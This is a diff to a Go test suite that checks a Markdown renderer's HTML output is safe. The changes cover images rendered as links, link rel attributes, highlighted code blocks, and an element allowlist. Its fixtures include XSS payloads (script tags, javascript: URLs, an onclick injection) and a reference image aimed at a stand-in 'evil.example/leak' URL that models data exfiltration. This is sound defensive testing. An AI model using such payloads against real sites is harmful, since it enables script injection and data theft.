@@ -1,6 +1,7 @@
 package markdown
 
 import (
+	"regexp"
 	"strings"
 	"sync"
 	"testing"
@@ -17,6 +18,7 @@ func TestRender(t *testing.T) {
 		has     []string // substrings the output must contain
 		hasNot  []string // substrings the output must not contain
 		noLinks bool     // output must have no href or src at all
+		noImage bool     // output must have no <img>
 	}{
 		{
 			name:   "script as text is escaped",
@@ -94,7 +96,7 @@ func TestRender(t *testing.T) {
 		{
 			name:   "HTML inside a code fence is escaped",
 			src:    "```html\n<script>alert(1)</script>\n```",
-			want:   "<pre><code class=\"language-html\">&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>",
+			has:    []string{`<span class="nt">script</span>`, `&lt;`},
 			hasNot: []string{"<script"},
 		},
 		{
@@ -106,22 +108,22 @@ func TestRender(t *testing.T) {
 		{
 			name: "link keeps href and gets rel and target",
 			src:  "[a](https://example.com)",
-			want: `<p><a href="https://example.com" rel="nofollow noopener" target="_blank">a</a></p>`,
+			want: `<p><a href="https://example.com" rel="nofollow noreferrer noopener" target="_blank">a</a></p>`,
 		},
 		{
 			name: "autolink",
 			src:  "<https://example.com/x?a=1&b=2>",
-			has:  []string{`href="https://example.com/x?a=1&amp;b=2"`, `rel="nofollow noopener"`, `target="_blank"`},
+			has:  []string{`href="https://example.com/x?a=1&amp;b=2"`, `rel="nofollow noreferrer noopener"`, `target="_blank"`},
 		},
 		{
 			name: "linkify",
 			src:  "see www.example.com",
-			has:  []string{`href="http://www.example.com"`, `rel="nofollow noopener"`, `target="_blank"`},
+			has:  []string{`href="http://www.example.com"`, `rel="nofollow noreferrer noopener"`, `target="_blank"`},
 		},
 		{
 			name: "mailto",
 			src:  "[mail](mailto:a@example.com)",
-			has:  []string{`href="mailto:a@example.com"`, `rel="nofollow"`},
+			has:  []string{`href="mailto:a@example.com"`, `rel="nofollow noreferrer"`},
 		},
 		{
 			name:    "relative link is dropped",
@@ -140,14 +142,52 @@ func TestRender(t *testing.T) {
 			hasNot: []string{`" onmouseover`},
 		},
 		{
-			name: "image keeps https src",
-			src:  "![cat](https://example.com/cat.png)",
-			want: `<p><img src="https://example.com/cat.png" alt="cat"></p>`,
+			name:    "image becomes a link to it",
+			src:     "![a *cat*](https://example.com/cat.png)",
+			want:    `<p><a href="https://example.com/cat.png" rel="nofollow noreferrer noopener" target="_blank">a <em>cat</em></a></p>`,
+			noImage: true,
 		},
 		{
-			name: "go fence gets language class",
+			name:    "image without alt shows its address",
+			src:     `![](https://example.com/a.png "A title")`,
+			want:    `<p><a href="https://example.com/a.png" title="A title" rel="nofollow noreferrer noopener" target="_blank">https://example.com/a.png</a></p>`,
+			noImage: true,
+		},
+		{
+			name:    "image in a link is its alt text",
+			src:     "[![badge](https://example.com/b.svg)](https://example.com/ci)",
+			want:    `<p><a href="https://example.com/ci" rel="nofollow noreferrer noopener" target="_blank">badge</a></p>`,
+			noImage: true,
+		},
+		{
+			name:    "reference image",
+			src:     "![x][img]\n\n[img]: https://evil.example/leak?q=secret",
+			has:     []string{`<a href="https://evil.example/leak?q=secret"`},
+			noImage: true,
+		},
+		{
+			name:    "javascript image is text",
+			src:     "![](javascript:alert(1))",
+			want:    `<p>javascript:alert(1)</p>`,
+			noLinks: true,
+		},
+		{
+			name: "go fence is highlighted, with a copy button",
 			src:  "```go\nx := 1\n```",
-			want: "<pre><code class=\"language-go\">x := 1\n</code></pre>",
+			want: `<div class="code"><div class="code-bar"><span class="code-lang">go</span>` +
+				`<button type="button" class="copy" aria-label="Copy code">Copy</button></div>` +
+				`<pre class="chroma"><code class="language-go"><span class="nx">x </span><span class="o">:= </span><span class="mi">1</span>` + "\n</code></pre></div>",
+		},
+		{
+			name: "fence without language is plain, with a copy button",
+			src:  "```\na < b\n```",
+			want: `<div class="code"><div class="code-bar"><button type="button" class="copy" aria-label="Copy code">Copy</button></div>` +
+				`<pre class="chroma"><code>a &lt; b` + "\n</code></pre></div>",
+		},
+		{
+			name: "unknown language is plain",
+			src:  "```nosuchlanguage\nx\n```",
+			has:  []string{`<span class="code-lang">nosuchlanguage</span>`, `<code class="language-nosuchlanguage">x` + "\n</code>"},
 		},
 		{
 			name: "c++ fence gets language class",
@@ -157,7 +197,7 @@ func TestRender(t *testing.T) {
 		{
 			name:   "odd language class is dropped",
 			src:    "```go\"onclick=\"alert(1)\nx\n```",
-			want:   "<pre><code>x\n</code></pre>",
+			has:    []string{"<pre class=\"chroma\"><code>x\n</code></pre>"},
 			hasNot: []string{"onclick"},
 		},
 		{
@@ -193,7 +233,7 @@ func TestRender(t *testing.T) {
 		{
 			name: "CRLF is treated as LF",
 			src:  "```\r\na\r\n```\r\n",
-			want: "<pre><code>a\n</code></pre>",
+			has:  []string{"<code>a\n</code>"},
 		},
 		{
 			name: "trailing half rune is not rendered",
@@ -233,20 +273,27 @@ func TestRender(t *testing.T) {
 			if tt.noLinks && (strings.Contains(got, "href=") || strings.Contains(got, "src=")) {
 				t.Errorf("Render(%q) = %q, want no href or src", tt.src, got)
 			}
+			if tt.noImage && strings.Contains(got, "<img") {
+				t.Errorf("Render(%q) = %q, want no <img>", tt.src, got)
+			}
 			checkSafeHTML(t, got)
 		})
 	}
 }
 
 // checkSafeHTML parses out and fails on anything that could run script or
-// load from a non-http(s) URL, whatever Markdown produced it: dangerous
-// elements, event handler or style attributes, and href/src values other than
-// absolute http(s) or mailto. It also checks the links carry rel and target.
+// make the browser load something, whatever Markdown produced it: elements
+// other than those goldmark writes (and the code block markup this package
+// adds), event handler, style or data-* attributes (Datastar runs data-on-*),
+// classes other than a code language, the code block's and chroma's, and
+// href values other than absolute http(s) or mailto. It also checks that
+// links carry rel and target.
 func checkSafeHTML(t testing.TB, out string) {
 	t.Helper()
 	if !utf8.ValidString(out) {
 		t.Errorf("output is not valid UTF-8: %q", out)
 	}
+	tokenClasses := newHighlighter().styled
 	z := html.NewTokenizer(strings.NewReader(out))
 	for {
 		tt := z.Next()
@@ -257,36 +304,62 @@ func checkSafeHTML(t testing.TB, out string) {
 			continue
 		}
 		tok := z.Token()
-		switch tok.Data {
-		case "script", "style", "iframe", "object", "embed", "svg", "math", "form", "textarea", "link", "meta", "base":
-			t.Errorf("dangerous element <%s> in %q", tok.Data, out)
+		if !allowedElements[tok.Data] {
+			t.Errorf("element <%s> in %q", tok.Data, out)
 		}
-		var rel, target, href string
+		var rel, target, href, class string
 		for _, a := range tok.Attr {
 			k := strings.ToLower(a.Key)
 			switch {
-			case strings.HasPrefix(k, "on"), k == "style", k == "srcset", k == "formaction":
-				t.Errorf("dangerous attribute %s=%q on <%s> in %q", a.Key, a.Val, tok.Data, out)
-			case k == "href" || k == "src" || k == "cite":
+			case k == "href":
 				v := strings.ToLower(a.Val)
 				if !strings.HasPrefix(v, "https://") && !strings.HasPrefix(v, "http://") && !strings.HasPrefix(v, "mailto:") {
 					t.Errorf("URL %s=%q on <%s> in %q", a.Key, a.Val, tok.Data, out)
 				}
-				if k == "href" {
-					href = v
-				}
+				href = v
 			case k == "rel":
 				rel = a.Val
 			case k == "target":
 				target = a.Val
-			case k == "class" && !strings.HasPrefix(a.Val, "language-"):
-				t.Errorf("class %q on <%s> in %q", a.Val, tok.Data, out)
+			case k == "class":
+				class = a.Val
+			case k == "title" || k == "start" || k == "align" || k == "checked" || k == "disabled" || k == "type" || k == "aria-label":
+			default:
+				t.Errorf("attribute %s=%q on <%s> in %q", a.Key, a.Val, tok.Data, out)
 			}
 		}
-		if tok.Data == "a" && strings.HasPrefix(href, "http") && (rel != "nofollow noopener" || target != "_blank") {
+		switch {
+		case class == "":
+		case tok.Data == "code" && regexp.MustCompile(`^language-[a-zA-Z0-9_+-]+$`).MatchString(class):
+		case tok.Data == "span" && (tokenClasses[class] || class == "code-lang"):
+		case tok.Data == "div" && (class == "code" || class == "code-bar"):
+		case tok.Data == "pre" && class == "chroma":
+		case tok.Data == "button" && class == "copy":
+		default:
+			t.Errorf("class %q on <%s> in %q", class, tok.Data, out)
+		}
+		if tok.Data == "button" && tok.String() != `<button type="button" class="copy" aria-label="Copy code">` {
+			t.Errorf("button %s in %q", tok.String(), out)
+		}
+		if tok.Data == "input" && tok.String() != `<input checked="" disabled="" type="checkbox">` && tok.String() != `<input disabled="" type="checkbox">` {
+			t.Errorf("input %s in %q", tok.String(), out)
+		}
+		if tok.Data == "a" && strings.HasPrefix(href, "http") && (rel != "nofollow noreferrer noopener" || target != "_blank") {
 			t.Errorf("link without rel/target: %q", out)
 		}
+		if tok.Data == "a" && strings.HasPrefix(href, "mailto:") && rel != "nofollow noreferrer" {
+			t.Errorf("mailto link without rel: %q", out)
+		}
 	}
+}
+
+// allowedElements are the elements a rendered answer may contain: what
+// goldmark writes for CommonMark and GFM, and the code block markup.
+var allowedElements = map[string]bool{
+	"p": true, "br": true, "hr": true, "h1": true, "h2": true, "h3": true, "h4": true, "h5": true, "h6": true,
+	"blockquote": true, "ul": true, "ol": true, "li": true, "pre": true, "code": true, "em": true, "strong": true,
+	"del": true, "table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true, "a": true,
+	"input": true, "div": true, "span": true, "button": true,
 }
 
 func TestRenderCorpusIsSafe(t *testing.T) {
